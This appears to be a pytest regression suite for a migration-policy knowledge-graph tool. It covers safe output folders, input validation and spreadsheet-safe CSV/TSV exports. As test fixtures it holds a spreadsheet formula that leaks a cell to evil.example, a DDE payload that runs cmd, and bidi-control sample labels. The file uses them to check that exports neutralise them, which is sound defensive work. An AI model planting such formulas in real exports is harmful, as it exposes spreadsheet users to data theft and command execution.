"""Hardening of the build side (issue #21): no command loses published data, output folders have
one writer at a time and the usual permissions, temporary folders do not outlive a killed run,
curated input cannot hide text or loop, and CSV/TSV exports cannot run as spreadsheet formulas.

Each test replays what the probe found and fails without its fix."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from rdflib import Literal
from rdflib.namespace import RDFS
from typer.testing import CliRunner

from mpdkg.cli.core import app
from mpdkg.errors import SourceErrors
from mpdkg.namespaces import GRAPHS, country_iri
from mpdkg.rdf.dumps import load_dump
from mpdkg.sources.load import load_sources
from tests.helpers import REPO, tree_snapshot, write_mini_graph

runner = CliRunner()
needs_java = pytest.mark.skipif(shutil.which("java") is None, reason="Java is needed to reason")

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Kenya")'
FORUM_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"


def csv_cell(value: str) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow([value])
    return buf.getvalue()


def hostile_graph(root: Path) -> Path:
    """The mini graph with a country name and a forum label that a spreadsheet would run."""
    graph = write_mini_graph(root)
    countries = graph / "countries.csv"
    text = countries.read_text(encoding="utf-8")
    countries.write_text(text.replace(",Kenya,", f",{csv_cell(FORMULA)},"), encoding="utf-8")
    fora = graph / "fora" / "test.csv"
    text = fora.read_text(encoding="utf-8")
    fora.write_text(
        text.replace(",Regional Conference on Migration,", f",{csv_cell(FORUM_FORMULA)},"), encoding="utf-8"
    )
    return graph


@pytest.fixture(scope="module")
def full_run(tmp_path_factory):
    """A full run (what `mpdkg run` writes) of the hostile mini graph."""
    from mpdkg.pipeline import run_all

    root = tmp_path_factory.mktemp("run")
    graph = hostile_graph(root / "src")
    dist = root / "dist"
    result = run_all(dist, graph)
    return graph, dist, result


def dump_size(folder: Path) -> int:
    return len(load_dump(folder / "mpdkg.trig"))


# --- 1. build --out into a folder holding a full run -----------------------------------------


def test_build_refuses_to_delete_a_full_run(full_run):
    graph, dist, _result = full_run
    before = tree_snapshot(dist)
    triples = dump_size(dist)
    result = runner.invoke(app, ["build", "--out", str(dist), "--graph-dir", str(graph)])
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    message = " ".join(result.output.split())
    for name in ("void.ttl", "stats.json", "influence.csv", "maps/", "report/", "mpdkg run"):
        assert name in message, name
    assert "analysis graph" in message
    assert tree_snapshot(dist) == before  # nothing deleted: VoID, stats, influence, maps, report
    assert dump_size(dist) == triples
    assert not [p for p in dist.parent.iterdir() if p.name.startswith(f".{dist.name}.")]


def test_build_refuses_dumps_holding_the_inferred_and_analysis_graphs(full_run, tmp_path):
    graph, dist, _result = full_run
    only_dumps = tmp_path / "dumps"
    only_dumps.mkdir()
    for path in dist.iterdir():
        if path.name.startswith("mpdkg.") or path.name == "context.jsonld":
            shutil.copy(path, only_dumps / path.name)
    result = runner.invoke(app, ["build", "--out", str(only_dumps), "--graph-dir", str(graph)])
    assert result.exit_code == 2, result.output
    assert "analysis" in result.output
    assert dump_size(only_dumps) == dump_size(dist)


def test_build_still_replaces_its_own_dumps_and_keeps_releases(tmp_path):
    from mpdkg.pipeline import build

    graph = write_mini_graph(tmp_path / "src")
    out = tmp_path / "dist"
    build(out, graph)
    (out / "releases" / "2026.01.01").mkdir(parents=True)
    (out / "releases" / "2026.01.01" / "mpdkg.trig").write_text("kept", encoding="utf-8")
    result = runner.invoke(app, ["build", "--out", str(out), "--graph-dir", str(graph)])
    assert result.exit_code == 0, result.output
    assert (out / "releases" / "2026.01.01" / "mpdkg.trig").read_text(encoding="utf-8") == "kept"
    assert not any(g for g in load_dump(out / "mpdkg.trig").graphs() if g.identifier == GRAPHS.analysis)


# --- 2. one lock per output folder ------------------------------------------------------------


def test_a_second_writer_waits_instead_of_deleting_the_first_ones_staging_folder(tmp_path, monkeypatch):
    """Regression: the second run removed the first one's staging folder (FileNotFoundError)."""
    import mpdkg.staging
    from mpdkg.pipeline import build
    from mpdkg.staging import staged

    graph = write_mini_graph(tmp_path / "src")
    out = tmp_path / "dist"
    waiting, done = threading.Event(), threading.Event()
    errors: list[BaseException] = []
    # Once it holds the lock, the second run stages only after this test has looked at what the
    # first published: on a loaded machine it could replace dist/ before the test looked.
    looked, second_threads = threading.Event(), set()
    real_make_published_dir = mpdkg.staging.make_published_dir

    def gated_make_published_dir(*args, **kwargs):
        if threading.get_ident() in second_threads:
            looked.wait(60)
        return real_make_published_dir(*args, **kwargs)

    monkeypatch.setattr(mpdkg.staging, "make_published_dir", gated_make_published_dir)

    def second(message: str) -> None:
        if message.startswith("waiting"):
            waiting.set()

    def run_second() -> None:
        second_threads.add(threading.get_ident())
        try:
            build(out, graph, second)
        except BaseException as exc:  # reported below
            errors.append(exc)
        finally:
            done.set()

    with staged(out) as stage:
        (stage / "first.txt").write_text("the first run's output", encoding="utf-8")
        thread = threading.Thread(target=run_second, daemon=True)
        thread.start()
        deadline = time.monotonic() + 120
        while not (waiting.is_set() or done.is_set()) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert waiting.is_set() and not done.is_set(), "the second run did not wait for the first"
        assert (stage / "first.txt").exists()
        (stage / "mpdkg.trig").write_text("", encoding="utf-8")
    assert (out / "first.txt").exists()  # the first run was published whole
    looked.set()
    thread.join(120)
    assert done.is_set() and not errors, errors
    assert (out / "mpdkg.trig").stat().st_size > 0  # then the second one
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".dist.")]


def test_the_command_says_it_waits_and_for_whom(tmp_path):
    from mpdkg.staging import output_lock

    graph = write_mini_graph(tmp_path / "src")
    out = tmp_path / "dist"
    log = tmp_path / "stderr.txt"
    with output_lock(out), log.open("wb") as err:
        proc = subprocess.Popen(
            [sys.executable, "-m", "mpdkg", "build", "--out", str(out), "--graph-dir", str(graph)],
            stdout=subprocess.DEVNULL,
            stderr=err,
            cwd=REPO,
        )
        try:
            deadline = time.monotonic() + 120
            while "waiting" not in log.read_text(encoding="utf-8") and time.monotonic() < deadline:
                assert proc.poll() is None, log.read_text(encoding="utf-8")
                time.sleep(0.1)
            assert proc.poll() is None
            assert not out.exists()
        except BaseException:
            proc.kill()
            raise
    assert proc.wait(120) == 0
    text = " ".join(log.read_text(encoding="utf-8").split())
    assert f"another mpdkg (pid {os.getpid()}" in text and str(out.resolve()) in text
    assert "Traceback" not in text
    assert (out / "mpdkg.trig").stat().st_size > 0


def test_a_killed_holder_releases_the_lock(tmp_path):
    from mpdkg.staging import output_lock

    out = tmp_path / "dist"
    code = (
        "import os, signal, sys\n"
        "from mpdkg.staging import output_lock\n"
        "with output_lock(sys.argv[1]):\n"
        "    print('locked', flush=True)\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
    )
    proc = subprocess.run([sys.executable, "-c", code, str(out)], capture_output=True, text=True, cwd=REPO)
    assert proc.returncode == -signal.SIGKILL and "locked" in proc.stdout
    told = []
    with output_lock(out, told.append):
        pass
    assert told == []  # taken at once
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".dist.")]


# --- 3. the usual permissions -----------------------------------------------------------------


@pytest.mark.parametrize(("umask", "folder", "file"), [(0o022, 0o755, 0o644), (0o027, 0o750, 0o640)])
def test_dist_and_its_files_get_the_usual_permissions(tmp_path, umask, folder, file):
    """Regression: dist/ came out 0700 (the staging folder's mkdtemp mode)."""
    from mpdkg.pipeline import build

    graph = write_mini_graph(tmp_path / "src")
    out = tmp_path / "dist"
    old = os.umask(umask)
    try:
        build(out, graph)
        build(out, graph)  # a second build replaces the first one
    finally:
        os.umask(old)
    assert out.stat().st_mode & 0o777 == folder
    for path in out.rglob("*"):
        assert path.stat().st_mode & 0o777 == (folder if path.is_dir() else file), path


@needs_java
def test_a_release_folder_gets_the_usual_permissions(tmp_path):
    from mpdkg.pipeline import release as make_release

    graph = write_mini_graph(tmp_path / "src")
    old = os.umask(0o022)
    try:
        folder = make_release(tmp_path / "dist", "2026.11.29", graph)
    finally:
        os.umask(old)
    assert folder.stat().st_mode & 0o777 == 0o755
    assert all(p.stat().st_mode & 0o777 == 0o644 for p in folder.iterdir())


# --- 4. temporary folders ---------------------------------------------------------------------


def test_hermit_folders_of_a_killed_run_are_removed(tmp_path, monkeypatch):
    """Regression: /tmp/mpdkg-hermit-* folders survived a run killed while HermiT ran."""
    import tempfile

    from mpdkg.reason import hermit as R

    code = (
        "import os, signal\n"
        "import mpdkg.reason.hermit as R\n"
        "R.subprocess.run = lambda *a, **k: os.kill(os.getpid(), signal.SIGKILL)\n"
        "R.run_hermit('java', b'<urn:a> <urn:b> <urn:c> .\\n', ['-k'])\n"
    )
    env = dict(os.environ, TMPDIR=str(tmp_path))
    proc = subprocess.run([sys.executable, "-c", code], env=env, cwd=REPO, capture_output=True)
    assert proc.returncode == -signal.SIGKILL, proc.stderr
    assert list(tmp_path.glob("mpdkg-hermit-*")), "the killed run left no folder: the test proves nothing"

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    monkeypatch.setattr(
        R.subprocess, "run", lambda cmd, **k: subprocess.CompletedProcess(cmd, 0, b"is satisfiable", b"")
    )
    assert R.run_hermit("java", b"", ["-k"])[0] == 0
    assert not list(tmp_path.glob("mpdkg-hermit-*"))


def test_a_hermit_folder_in_use_is_left_alone(tmp_path, monkeypatch):
    import tempfile

    from mpdkg.reason import hermit as R

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with R.hermit_workdir() as folder:
        (folder / "view.nt").write_bytes(b"")
        assert R.remove_stale_workdirs() == []
        assert (folder / "view.nt").exists()
    assert not folder.exists()


# --- 5. curated input -------------------------------------------------------------------------


def add_agreements(graph: Path, *rows: str) -> None:
    with (graph / "agreements" / "test.csv").open("a", encoding="utf-8") as fh:
        for row in rows:
            fh.write(row + "\n")


def problems(graph: Path) -> list[str]:
    with pytest.raises(SourceErrors) as info:
        load_sources(graph)
    return [str(p) for p in info.value.problems]


def test_an_agreement_amending_itself_is_refused_with_file_and_line(mini_graph):
    add_agreements(mini_graph, "loop,Loop protocol,,protocol,5,CAN;USA,2020,,,loop,,,t-agr,,")
    found = problems(mini_graph)
    assert any(p.startswith("graph/agreements/test.csv:6:") and "amend itself" in p for p in found), found


def test_cyclic_amends_are_refused_with_file_and_line(mini_graph):
    add_agreements(
        mini_graph,
        "p-a,Protocol A,,protocol,5,CAN;USA,2020,,,p-b,,,t-agr,,",
        "p-b,Protocol B,,protocol,5,CAN;USA,2021,,,p-c,,,t-agr,,",
        "p-c,Protocol C,,protocol,5,CAN;USA,2022,,,p-a,,,t-agr,,",
        "p-d,Protocol D,,protocol,5,CAN;USA,2023,,,p-a,,,t-agr,,",  # amends the cycle, is not in it
    )
    found = [p for p in problems(mini_graph) if "cycle" in p]
    assert [p.split(": ", 1)[0] for p in found] == [f"graph/agreements/test.csv:{n}" for n in (6, 7, 8)]
    assert "p-a → p-b → p-c → p-a" in found[0]
    # the real graph's amends (stca-protocol amends stca) still load
    assert (
        load_sources(write_mini_graph(mini_graph.parent / "again")).agreements["stca-protocol"].amends
        == "stca"
    )


@pytest.mark.parametrize(
    ("file", "row", "column", "char", "name"),
    [
        ("fora/test.csv", "x1,Evil \u202eRTL label,,initiative,1,,,,,no,,,,t-forum,,", "label", "202E",
         "RIGHT-TO-LEFT OVERRIDE"),
        ("fora/test.csv", "x1,Isolate \u2067label\u2069,,initiative,1,,,,,no,,,,t-forum,,", "label", "2067",
         "RIGHT-TO-LEFT ISOLATE"),
        ("fora/test.csv", "x1,Mark\u200f,,initiative,1,,,,,no,,,,t-forum,,", "label", "200F",
         "RIGHT-TO-LEFT MARK"),
        ("fora/test.csv", "x1,Arabic mark\u061c,,initiative,1,,,,,no,,,,t-forum,,", "label", "061C",
         "ARABIC LETTER MARK"),
        ("fora/test.csv", "x1,Plain,R\u200bCM,initiative,1,,,,,no,,,,t-forum,,", "alt_labels", "200B",
         "ZERO WIDTH SPACE"),
        ("fora/test.csv", "x1,Joined\u2060word,,initiative,1,,,,,no,,,,t-forum,,", "label", "2060",
         "WORD JOINER"),
        ("memberships/five.csv", "FRA,member,2015,,,t-forum,,a note\ufeff", "note", "FEFF",
         "ZERO WIDTH NO-BREAK SPACE"),
        ("memberships/five.csv", "FRA,member,2015,,,t-forum,quote with \u200d joiner,", "quote", "200D",
         "ZERO WIDTH JOINER"),
    ],
)  # fmt: skip
def test_bidi_controls_and_zero_width_characters_are_refused(mini_graph, file, row, column, char, name):
    path = mini_graph / file
    line = len(path.read_text(encoding="utf-8").splitlines()) + 1
    with path.open("a", encoding="utf-8") as fh:
        fh.write(row + "\n")
    found = [p for p in problems(mini_graph) if f"U+{char}" in p]
    assert len(found) == 1, found
    assert found[0].startswith(f"graph/{file}:{line}: {column} contains U+{char} {name}"), found


def test_a_byte_order_mark_at_the_start_of_a_file_is_still_accepted(mini_graph):
    path = mini_graph / "fora" / "test.csv"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    assert "rcm" in load_sources(mini_graph).fora


def test_a_nul_byte_is_reported_before_the_problems_it_causes(mini_graph):
    path = mini_graph / "sources" / "test.csv"  # every fact of the mini graph cites these sources
    path.write_bytes(path.read_bytes() + b"t-bad,https://x.example,A\x00,B,2026-01-01,\n")
    with pytest.raises(SourceErrors) as info:
        load_sources(mini_graph)
    found = [str(p) for p in info.value.problems]
    assert len(found) > 20  # unknown source ids everywhere, in files sorted before sources/
    assert found[0].startswith("graph/sources/test.csv:5: contains a NUL character"), found[:3]
    report = info.value.report().splitlines()
    assert report[0] == found[0]
    assert "may follow from" in report[1]


def test_bad_encoding_is_reported_before_the_problems_it_causes(mini_graph):
    path = mini_graph / "fora" / "test.csv"  # memberships and engagements refer to these fora
    path.write_bytes(path.read_bytes().replace(b"Five Country", b"Five Countr\xff"))
    found = problems(mini_graph)
    assert len(found) > 3
    assert found[0].startswith("graph/fora/test.csv:3: not valid UTF-8"), found[:3]
    assert any("agreements/" in p or "engagements/" in p or "memberships/" in p for p in found[1:])


# --- 6. CSV and TSV exports -------------------------------------------------------------------

NUMERIC = ("rank", "score", "personalized_pagerank", "tie_to_canada", "weighted_degree", "betweenness",
           "eigenvector", "channels_with_canada", "channels_total")  # fmt: skip


def assert_no_formula_cells(text: str, delimiter: str = ",") -> None:
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may begin so


def test_influence_csv_neutralises_formulas_and_keeps_numbers(full_run):
    _graph, dist, result = full_run
    text = (dist / "influence.csv").read_text(encoding="utf-8")
    assert_no_formula_cells(text)
    rows = {r["iso3"]: r for r in csv.DictReader(io.StringIO(text))}
    assert rows["KEN"]["label"] == "'" + FORMULA
    for row in rows.values():
        for column in NUMERIC:
            if row[column]:
                float(row[column])
    # JSON and RDF keep the literal
    ken = next(r for r in json.loads((dist / "influence.json").read_text(encoding="utf-8"))["rows"]
               if r["iso3"] == "KEN")  # fmt: skip
    assert ken["label"] == FORMULA
    dump = load_dump(dist / "mpdkg.trig")
    labels = {o for _, _, o, _ in dump.quads((country_iri("KEN"), RDFS.label, None, None))}
    assert Literal(FORMULA, lang="en") in labels
    assert_no_formula_cells(result.built.influence.gaps_csv())
    gaps = list(csv.DictReader(io.StringIO(result.built.influence.gaps_csv())))
    assert "'" + FORMULA in {r["label"] for r in gaps}


def test_influence_comparison_and_explain_csv(full_run):
    from mpdkg.cli.influence import _explain_csv
    from mpdkg.influence.analysis import InfluenceConfig, analyse, compare

    _graph, _dist, result = full_run
    dataset = result.built.dataset
    config = InfluenceConfig.load()
    comparison = compare(analyse(dataset, config, as_of=2005), analyse(dataset, config, as_of=2024))
    text = comparison.to_csv()
    assert_no_formula_cells(text)
    changes = [float(r["score_change"]) for r in csv.DictReader(io.StringIO(text)) if r["score_change"]]
    assert any(c < 0 for c in changes) or any(c > 0 for c in changes)  # numbers, negative ones too
    explained = _explain_csv(result.built.influence, "MEX")
    assert_no_formula_cells(explained)
    assert "'" + FORUM_FORMULA in {r["label"] for r in csv.DictReader(io.StringIO(explained))}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1.5", "-1.5"),
        ("+3e5", "+3e5"),
        ("-inf", "'-inf"),
        ("Canada", "Canada"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(value, cell):
    from mpdkg.query.results import spreadsheet_safe

    assert spreadsheet_safe(value) == cell


def test_query_csv_and_tsv_neutralise_while_json_keeps_the_literal(full_run):
    _graph, dist, _result = full_run
    q = "SELECT ?l ?n WHERE { <https://w3id.org/mpdkg/country/KEN> rdfs:label ?l BIND(-1.5 AS ?n) }"

    def run(fmt: str) -> str:
        result = runner.invoke(app, ["query", "-e", q, "--format", fmt, "--data", str(dist / "mpdkg.trig")])
        assert result.exit_code == 0, result.output
        return result.stdout

    table = list(csv.reader(io.StringIO(run("csv"))))
    assert table[1] == ["'" + FORMULA, "-1.5"]
    tsv = run("tsv").splitlines()
    escaped = FORMULA.replace('"', '\\"')
    assert tsv[1].split("\t")[0] == f'"\'{escaped}"@en'
    assert tsv[1].split("\t")[1].startswith('"-1.5"^^')
    binding = json.loads(run("json"))["results"]["bindings"][0]
    assert binding["l"]["value"] == FORMULA


def test_tsv_literals_stay_on_one_line():
    from mpdkg.query.results import QueryResult, to_tsv

    result = QueryResult("select", ["x"], [(Literal("two\nlines\tand a tab"),)])
    assert to_tsv(result).splitlines() == ["?x", '"two\\nlines\\tand a tab"']


# --- 7. unverified Wikidata ids ---------------------------------------------------------------


def test_the_unverified_iom_wikidata_id_is_not_in_the_graph():
    notes = (REPO / "docs" / "curation-notes" / "mla.md").read_text(encoding="utf-8")
    assert "Wikidata left blank for `iom`" in notes  # the curation notes call it unverified
    for path in sorted((REPO / "graph" / "fora").glob("*.csv")):
        for row in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))):
            if row["id"] == "iom":
                assert row["wikidata"] == "", f"{path.name}: an unverified Wikidata id for the IOM"
    assert "Q472311" in (REPO / "graph" / "TODO.md").read_text(encoding="utf-8")


def test_a_run_reads_the_open_data_of_the_graph_it_was_given(full_run):
    """Regression: `run_all(dist, graph)` drew the maps, the country pages and the report from the
    project's graph/open-data/ while building another graph/ (which holds none here)."""
    _graph, dist, _result = full_run
    pages = sorted((dist / "report" / "countries").glob("*.html"))
    assert pages
    text = pages[0].read_text(encoding="utf-8")
    assert "could not be read" in text  # the UNHCR, visa and vote sections say why they are empty
    assert not (dist / "open-data.nq.gz").exists()
